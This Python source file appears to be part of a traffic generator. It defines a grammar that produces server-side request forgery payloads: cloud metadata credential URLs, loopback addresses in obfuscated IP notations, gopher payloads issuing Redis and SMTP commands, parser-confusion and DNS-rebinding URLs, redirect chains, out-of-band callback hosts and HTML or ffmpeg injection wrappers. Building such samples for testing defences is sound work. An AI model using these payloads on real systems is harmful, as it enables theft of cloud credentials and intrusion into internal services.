"""Server-side request forgery: where a server is sent, and how the address is written.

Addresses after the cloud providers' metadata documents; notations after RFC 3986, RFC 4291 and the
forms that inet_aton accepts; schemes after curl's.
"""

import random

from traffic.grammars.attacks.pieces import Grammar, Symbols

_INNER = (
    (127, 0, 0, 1),
    (169, 254, 169, 254),
    (10, 0, 0, 1),
    (192, 168, 1, 1),
    (172, 17, 0, 1),
    (127, 1, 1, 1),
)


def _numeric(rng: random.Random) -> str:
    """An inner address in a notation of inet_aton, or as IPv6."""
    octets = rng.choice(
        (*_INNER[:2], *_INNER, (127, rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)))
    )
    whole = int.from_bytes(bytes(octets), "big")
    a, b, c, d = octets
    return rng.choice(
        (
            str(whole),
            hex(whole),
            f"0{whole:o}",
            ".".join(hex(octet) for octet in octets),
            ".".join(f"0{octet:o}" for octet in octets),
            ".".join(f"{octet:04o}" for octet in octets),
            f"{a}.{b}.{c << 8 | d}",
            f"{a}.{b << 16 | c << 8 | d}",
            f"0x{a:02x}.{b}.0{c:o}.{d}",
            f"[::ffff:{a}.{b}.{c}.{d}]",
            f"[::ffff:{whole >> 16:x}:{whole & 0xFFFF:x}]",
            f"[0:0:0:0:0:ffff:{a}.{b}.{c}.{d}]",
            f"{a + 256}.{b + 256}.{c + 256}.{d + 256}",
            f"{a}。{b}。{c}。{d}",
            f"{a}%2e{b}%2e{c}%2e{d}",
            f"0x{whole:016x}",
        )
    )


# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "num": _numeric,
    "meta": (
        "169.254.169.254/latest/meta-data/‹¦iam/security-credentials/¦"
        "iam/security-credentials/‹id›¦hostname¦local-ipv4¦public-keys/0/openssh-key¦‹id››",
        "169.254.169.254/latest/‹user-data¦dynamic/instance-identity/document¦api/token›",
        "169.254.169.254/metadata/‹instance?api-version=20‹d›‹d›-0‹d›-01¦v1/¦"
        "identity/oauth2/token?api-version=2018-02-01&resource=‹id››",
        "metadata.google.internal/computeMetadata/v1/‹instance/service-accounts/default/token¦"
        "project/project-id¦instance/attributes/‹id›¦?recursive=true›",
        "metadata/computeMetadata/v1beta1/‹instance/‹id›¦?recursive=true›",
        "100.100.100.200/latest/meta-data/‹id?›", "169.254.169.254/opc/v‹d›/instance/‹id?›",
        "169.254.170.2/v2/credentials/‹hex›",
        "169.254.169.254/openstack/latest/‹meta_data.json¦user_data¦‹id››",
        "instance-data/latest/meta-data/‹id?›",
        "192.0.0.192/latest/‹user-data/¦meta-data/¦attributes/›",
        "rancher-metadata/20‹d›‹d›-0‹d›-01/‹id›", "[fd00:ec2::254]/latest/meta-data/‹id?›",
        "169.254.169.254/v‹d›.json?‹abc›", "169.254.169.254:80/latest/meta-data/‹id›",
    ),
    "in": (
        "127.0.0.1", "localhost", "127.0.0.1", "0.0.0.0", "0", "127.1", "127.0.1", "[::1]", "[::]",
        "[0:0:0:0:0:0:0:1]", "127.‹n8›.‹n8›.‹n8›", "‹lan›", "localtest.me", "‹id›.localtest.me",
        "localhost.", "LOCALHOST", "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "①②⑦.⓪.⓪.①", "spoofed.‹evil›@127.0.0.1",
        "kubernetes.default.svc", "host.docker.internal", "ip6-localhost", "127.0.0.1.nip.io",
        "‹id›.127.0.0.1.xip.io", "lvh.me", "customer‹n›.127-0-0-1.sslip.io",
    ),
    "svc": lambda rng: str(
        rng.choice(
            (
                21,
                22,
                23,
                25,
                80,
                443,
                445,
                2375,
                2379,
                3306,
                3000,
                5000,
                5432,
                5984,
                6379,
                6443,
                7001,
                8000,
                8080,
                8443,
                8500,
                8888,
                9000,
                9200,
                10250,
                11211,
                15672,
                27017,
            )
        )
    ),
    "path": (
        "", "/", "/admin", "/‹id›", "/server-status", "/admin/delete?username=‹name›", "/flag",
        "/api/v1/‹id›", "/_cat/indices", "/containers/json", "/v1/agent/self", "/manager/html",
        "/‹rnd›?‹abc›=‹n›", "/actuator/env", "/console",
    ),
    "inurl": (
        "‹scheme›://‹in›:‹svc›‹path›", "‹scheme›://‹num›‹path›", "‹scheme›://‹num›:‹svc›‹path›",
        "http://‹meta›",
    ),
}

_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    metadata=(
        "http://‹meta›", "http://‹meta›", "‹https://¦//¦HTTP://¦http:\\\\›‹meta›", "‹meta›",
        "http://‹num›/latest/meta-data/‹id?›", "http://‹rnd›@‹meta›", "http://‹meta›#‹rnd›",
    ),
    inner_host=(
        "‹scheme›://‹in›:‹svc›‹path›", "‹scheme›://127.0.0.1:‹svc›‹path›", "//‹in›:‹svc›‹path›",
        "http://localhost:‹svc›/‹id›", "‹in›:‹svc›/‹..;/¦%2e%2e/¦admin/¦server-status?‹abc›=›‹id›",
        "‹scheme›://‹in›:‹svc›/%2e%2e/‹id›", "http:/‹in›:‹svc›‹path›", "http://‹in›:‹n›",
    ),
    numeric=(
        "‹scheme›://‹num›‹path›", "‹scheme›://‹num›:‹svc›‹path›", "//‹num›:‹svc›‹path›",
        "http://‹num›/?‹abc›=‹rnd›",
    ),
    other_schemes=(
        "gopher://‹in›:‹svc›/_‹rnd›%0d%0a",
        "gopher://‹in›:6379/_*‹d›%0d%0a$‹d›%0d%0a‹SET¦CONFIG¦FLUSHALL¦eval›%0d%0a‹rnd›",
        "gopher://‹in›:25/_HELO%20‹evil›%0aMAIL%20FROM%3A‹name›",
        "gopher://‹in›:3306/_%a3%00%00%01%85%a6%ff%‹hex2›",
        "dict://‹in›:‹svc›/‹info¦stats¦config:set:dir:/tmp¦‹rnd››", "ftp://‹in›:‹svc›/‹id?›",
        "sftp://‹evil›:‹port›/‹rnd?›", "ldap://‹in›:‹svc›/%0astats%0aquit‹abc?›",
        "ldap://‹evil›/‹rnd›", "tftp://‹evil›:‹port›/‹id›", "smb://‹ip›/‹id›",
        "imap://‹in›:‹svc›/‹id›", "netdoc://‹in›/‹id›", "jar:‹inurl›!/‹id›",
        "telnet://‹in›:‹svc›/‹rnd›", "rtsp://‹in›:‹svc›/‹rnd›",
        "http+unix://%2Fvar%2Frun%2Fdocker.sock/‹id›", "unix:///var/run/docker.sock?‹rnd›",
        "ssh://‹name›@‹in›:22/‹rnd›", "redis://‹in›:6379/‹d›?‹rnd›",
    ),
    parser_confusion=(
        "http://‹word›.com@‹in›:‹svc›‹path›", "http://‹in›#@‹word›.com/",
        "http://‹in›%23@‹word›.com", "http://‹word›.com%2523@‹in›/‹id?›",
        "http://‹in›\\@‹word›.com", "http://‹in›:‹svc›\\@@‹word›.com:80/",
        "http://‹word›.com:80;http://‹in›:‹svc›/", "http://‹in›%00.‹word›.com",
        "http://1.1.1.1 &@‹in›# @‹word›.com/", "http://‹in›%09‹id›", "http://‹word›.com?@‹in›/‹id›",
        "0://‹evil›:80;http://‹in›:‹svc›/", "http://‹in›%0d%0aX-‹rnd›:%20‹rnd›",
        "http://{‹in›}:‹svc›/‹abc›", "http://‹in›:‹svc›:80/‹abc›",
        "http://‹name›:‹rnd›@‹in›:‹svc›‹path›", "http:‹in›:‹svc›/‹abc›", "http://;@‹in›:‹svc›",
        "http:////‹in›:‹svc›///‹abc›",
    ),
    rebinding=(
        "http://‹hex8›.‹hex8›.rbndr.us/‹abc?›", "http://7f000001.‹hex8›.rbndr.us‹path›",
        "http://make-‹ip›-rebind-127.0.0.1-rr.1u.ms‹path›",
        "http://A.‹ip›.1time.127.0.0.1.1time.repeat.rebind.network‹path›",
        "http://‹lan›.nip.io:‹svc›‹path›", "http://‹rnd›.‹lan›.xip.io‹path›",
        "http://169.254.169.254.nip.io/‹id›", "http://s‹d›‹hex›.singularity.‹evil›:‹svc›‹path›",
        "http://www.127.0.0.1.sslip.io:‹svc›‹path›", "http://spoofed.burpcollaborator.net/‹rnd›",
        "http://127-0-0-1.‹rnd›.sslip.io/‹id?›",
    ),
    redirecting=(
        "http://‹evil›/‹redirect¦r¦‹id››?‹url¦to¦u›=‹inurl›", "‹url›/302?‹rnd›=‹inurl›",
        "https://‹word›.com/‹redir¦out¦login›?‹next¦url›=‹inurl›",
        "http://ssrf-redirector.‹evil›/‹rnd›→‹inurl›",
        "/‹word›?‹url¦uri¦dest¦feed¦host¦proxy¦callback›=‹inurl›", "url=‹inurl›&‹id›=‹n›",
        "‹id›?‹url¦src¦path›=http://‹meta›",
    ),
    callback=(
        "http://‹rand›.‹oastify.com¦oast.fun¦oast.pro¦oast.live¦burpcollaborator.net¦interact.sh¦"
        "dnslog.cn¦ceye.io¦requestbin.net¦webhook.site¦bxss.in¦canarytokens.com¦pipedream.net¦"
        "ngrok.io›‹path›",
        "//‹rand›.‹oastify.com¦oast.online¦burpcollaborator.net¦interact.sh¦dnslog.cn›/‹id?›",
        "‹rand›.‹oastify.com¦oast.site¦burpcollaborator.net¦interact.sh¦ceye.io¦dnslog.cn›",
        "‹name›@‹rand›.‹oastify.com¦oast.me¦burpcollaborator.net¦interact.sh›",
        "http://{{interactsh-url}}/‹rnd›",
        "https://webhook.site/‹hex8›-‹hex4›-‹hex4›-‹hex4›-‹hex8›‹hex4›",
        "‹rand›.‹rand›.‹canarytokens.com¦requestbin.net›",
    ),
    in_document=(
        '{"‹url¦callback¦webhook¦image¦‹id››":"‹inurl›"}', '<img src="‹inurl›">',
        "<iframe src='‹inurl›'></iframe>", '<link rel=attachment href="‹inurl›">',
        "@import url(‹inurl›);", "![‹word›](‹inurl›)", "‹words› ‹inurl›",
        '<esi:include src="‹inurl›"/>', "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:‹d›,\n‹inurl›",
        "<script>x=new XMLHttpRequest;x.open('GET','‹inurl›');x.send()</script>",
        "ffmpeg -i '‹inurl›'",
    ),
)
